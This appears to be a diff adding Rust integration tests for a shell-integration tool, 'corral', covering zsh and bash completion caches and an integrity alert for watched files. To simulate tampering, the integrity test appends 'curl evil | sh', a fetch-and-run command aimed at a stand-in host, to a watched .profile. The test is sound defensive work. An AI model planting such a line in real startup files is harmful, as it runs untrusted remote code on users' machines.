@@ -1,0 +1,272 @@
+//! What the shells get from the shipped tasks on this machine's real
+//! files: zsh's completion dump (compared with the one zsh's own compinit
+//! writes from the same `$fpath`), the first Tab in a real zsh and bash
+//! (tmux) loading a definition from the system's completion directories,
+//! and the integrity alert at the prompt.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use crate::support::{Fixture, artifacts};
+use crate::terminal::{Tmux, available, shell_quote};
+
+const LIMIT: Duration = Duration::from_secs(60);
+
+/// zsh's compiled-in `$fpath` (existing directories, in order) and version.
+fn zsh_fpath() -> (String, Vec<String>) {
+    let output = Command::new("zsh")
+        .args(["-fc", "print -r -- $ZSH_VERSION; print -rl -- $fpath"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(output.stdout).unwrap();
+    let mut lines = text.lines();
+    let version = lines.next().unwrap().to_string();
+    let dirs = lines
+        .filter(|dir| Path::new(dir).is_dir())
+        .map(str::to_string)
+        .collect();
+    (version, dirs)
+}
+
+/// A manifest whose `zsh_compdump` reads zsh's real `$fpath`.
+fn compdump_manifest(fixture: &Fixture) -> PathBuf {
+    let (version, dirs) = zsh_fpath();
+    let mut args = vec!["/cache/zcompdump".to_string(), version];
+    args.extend(dirs.iter().cloned());
+    let mut text = format!(
+        "[[task]]\nid = \"zsh_compdump\"\nrationale = \"t\"\ncomponent = {:?}\ntimeout_ms = 1500\nfuel = 20_000_000_000\nargs = {}\n",
+        artifacts::ZSH_COMPDUMP,
+        toml::Value::from(args)
+    );
+    for dir in &dirs {
+        text.push_str(&format!(
+            "[[task.dir]]\nhost = {dir:?}\nguest = {dir:?}\nmode = \"ro\"\n"
+        ));
+    }
+    text.push_str(
+        "[[task.dir]]\nhost = \".corral/cache/zsh\"\nguest = \"/cache\"\nmode = \"rw\"\n",
+    );
+    fixture.manifest(&text);
+    fixture.path().join(".corral/cache/zsh/zcompdump")
+}
+
+/// Everything a dump defines once zsh has sourced it, one line per fact,
+/// sorted: the tables, the completion widgets, their key bindings, the
+/// autoloaded functions.
+fn dump_facts(dump: &Path) -> String {
+    let script = r#"zmodload zsh/zle
+source $1
+typeset -A tab
+for t in _comps _services _patcomps _postpatcomps _compautos; do
+  tab=("${(@Pkv)t}")
+  for k in ${(ok)tab}; do print -r -- "$t ${(q)k} ${(q)tab[$k]}"; done
+done
+zle -lL | grep '^zle -C' | sort
+bindkey | grep ' _' | sort
+print -rl -- ${(ok)functions[(I)_*]}
+"#;
+    let output = Command::new("zsh")
+        .args(["-fc", script, "facts"])
+        .arg(dump)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    String::from_utf8(output.stdout).unwrap()
+}
+
+#[test]
+fn zsh_compdump_defines_what_compinit_defines_from_the_same_fpath() {
+    if !available(&["zsh"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let ours = compdump_manifest(&fixture);
+    let run = fixture.corral(&["run", "--quiet"]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+
+    let theirs = fixture.path().join("compinit.dump");
+    let status = Command::new("zsh")
+        .args(["-fc", "autoload -Uz compinit; compinit -d \"$1\"", "zsh"])
+        .arg(&theirs)
+        .env("HOME", fixture.path())
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let header = |path: &Path| {
+        std::fs::read_to_string(path)
+            .unwrap()
+            .lines()
+            .next()
+            .unwrap()
+            .to_string()
+    };
+    // The header compinit checks without -C: same file count and version.
+    assert_eq!(header(&ours), header(&theirs));
+    let facts = dump_facts(&ours);
+    assert!(facts.lines().count() > 1000, "{facts}");
+    assert_eq!(facts, dump_facts(&theirs));
+
+    // An unchanged dump is not rewritten: its compiled copy stays valid.
+    let modified = std::fs::metadata(&ours).unwrap().modified().unwrap();
+    std::thread::sleep(Duration::from_millis(20));
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    assert_eq!(
+        std::fs::metadata(&ours).unwrap().modified().unwrap(),
+        modified
+    );
+}
+
+/// Starts `shell` in tmux in the fixture with `rc` as its start-up file.
+fn shell_in_tmux(fixture: &Fixture, shell: &str, rc: &str) -> Tmux {
+    let rc_name = if shell == "zsh" { ".zshrc" } else { "bashrc" };
+    let rc_path = fixture.write(rc_name, rc);
+    let home = fixture.path().display().to_string();
+    let cache = crate::support::shared_cache_dir().display().to_string();
+    let command = match shell {
+        "zsh" => "zsh -i".to_string(),
+        _ => format!(
+            "bash --rcfile {} -i",
+            shell_quote(&rc_path.display().to_string())
+        ),
+    };
+    let tmux = Tmux::start(
+        fixture.path(),
+        &command,
+        &[
+            ("HOME", &home),
+            ("ZDOTDIR", &home),
+            ("PATH", "/usr/bin:/bin"),
+            ("TERM", "xterm"),
+            ("CORRAL_CACHE_DIR", &cache),
+        ],
+    );
+    tmux.wait_for(LIMIT, "the first prompt", |screen| {
+        screen.contains("READY>")
+    });
+    tmux
+}
+
+fn snippet(fixture: &Fixture, shell: &str) -> String {
+    let snippet = fixture.corral(&["shell-init", shell]);
+    assert_eq!(snippet.code, Some(0), "{}", snippet.stderr);
+    let path = fixture.write(&format!("corral.{shell}"), &snippet.stdout);
+    shell_quote(&path.display().to_string())
+}
+
+#[test]
+fn zsh_completes_on_the_first_tab_from_corrals_dump() {
+    if !available(&["tmux", "zsh", "git"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let dump = compdump_manifest(&fixture);
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    assert!(dump.is_file());
+    let source = snippet(&fixture, "zsh");
+    let tmux = shell_in_tmux(
+        &fixture,
+        "zsh",
+        &format!("source {source}\ncorral_compinit\nPS1='READY> '\n"),
+    );
+    // `_git`, from Debian's zsh completion directory, completes `checko`.
+    tmux.send(&["git checko", "Tab"]);
+    tmux.wait_for(LIMIT, "git's subcommand completed", |screen| {
+        screen.contains("READY> git checkout")
+    });
+    // compinit loaded corral's dump instead of scanning and writing its own.
+    assert!(!fixture.path().join(".zcompdump").exists());
+}
+
+/// A manifest whose `completion_cache_scan` indexes the system's
+/// bash-completion directory; returns the directory.
+fn bash_index_manifest(fixture: &Fixture) -> &'static str {
+    let dir = "/usr/share/bash-completion/completions";
+    fixture.manifest(&format!(
+        "[[task]]\nid = \"completion_cache_scan\"\nrationale = \"t\"\ncomponent = {:?}\ntimeout_ms = 1500\nfuel = 40_000_000_000\nargs = [\"/completions/bash/1\", \"/cache/completions.index\"]\n[[task.dir]]\nhost = {dir:?}\nguest = \"/completions/bash/1\"\nmode = \"ro\"\n[[task.dir]]\nhost = \".corral/cache/completions\"\nguest = \"/cache\"\nmode = \"rw\"\n",
+        artifacts::COMPLETION_CACHE_SCAN
+    ));
+    dir
+}
+
+#[test]
+fn bash_loads_a_definition_from_corrals_index_on_the_first_tab() {
+    if !available(&["tmux", "bash"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let dir = bash_index_manifest(&fixture);
+    if !Path::new(dir).join("ssh").is_file() {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "bash-completion is not installed"
+        );
+        return;
+    }
+    let run = fixture.corral(&["run", "--quiet"]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let source = snippet(&fixture, "bash");
+    let tmux = shell_in_tmux(
+        &fixture,
+        "bash",
+        &format!("source {source}\nPS1='READY> '\n"),
+    );
+    // Start-up sourced neither bash-completion nor any definition.
+    tmux.send(&[
+        "complete -p | wc -l; declare -F _init_completion || echo NO-HELPERS",
+        "Enter",
+    ]);
+    tmux.wait_for(LIMIT, "the start-up state", |screen| {
+        screen.contains("\n1\nNO-HELPERS")
+    });
+    // ssh's definition (bash-completion's `ssh` file) completes an option.
+    tmux.send(&["ssh -o Compr", "Tab"]);
+    tmux.wait_for(LIMIT, "ssh's option completed", |screen| {
+        screen.contains("READY> ssh -o Compression=")
+    });
+}
+
+#[test]
+fn an_edited_watched_file_raises_the_prompt_alert_until_rebaselined() {
+    if !available(&["tmux", "bash"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let watched = fixture.write("watched/.profile", "export A=1\n");
+    fixture.manifest(&format!(
+        "[[task]]\nid = \"integrity_scan\"\nrationale = \"t\"\ncomponent = {:?}\nargs = [\"/watched/.profile\", \"/state/baseline.sha256\"]\n[[task.file]]\nhost = {:?}\nguest = \"/watched/.profile\"\n[[task.dir]]\nhost = \".corral/integrity\"\nguest = \"/state\"\nmode = \"rw\"\n",
+        artifacts::INTEGRITY_SCAN,
+        watched.display().to_string()
+    ));
+    // The baseline, taken before the shell starts.
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    let source = snippet(&fixture, "bash");
+    let tmux = shell_in_tmux(
+        &fixture,
+        "bash",
+        &format!("source {source}\nPS1='[${{corral_alert:-no alert}}] READY> '\n"),
+    );
+    // The first prompt's own run has finished (it would hold the task).
+    let events = fixture.path().join(".corral/last-run.events");
+    crate::terminal::eventually(LIMIT, "the first prompt's run", || {
+        std::fs::read_to_string(&events).is_ok_and(|text| text.contains("PERF_GUARD"))
+    });
+    let corral = shell_quote(env!("CARGO_BIN_EXE_corral"));
+    tmux.send(&["echo 'curl evil | sh' >> watched/.profile", "Enter"]);
+    tmux.send(&[&format!("{corral} run --quiet"), "Enter"]);
+    tmux.wait_for(LIMIT, "the alert at the prompt", |screen| {
+        screen.contains("[corral: watched files changed: corral result integrity_scan; to accept: corral rebaseline integrity_scan] READY>")
+    });
+    tmux.send(&["clear", "Enter"]);
+    tmux.send(&[
+        &format!("{corral} rebaseline integrity_scan >/dev/null"),
+        "Enter",
+    ]);
+    tmux.wait_for(LIMIT, "the alert cleared", |screen| {
+        screen
+            .lines()
+            .rev()
+            .find(|line| line.contains("READY>"))
+            .is_some_and(|line| line.starts_with("[no alert] READY>"))
+    });
+}
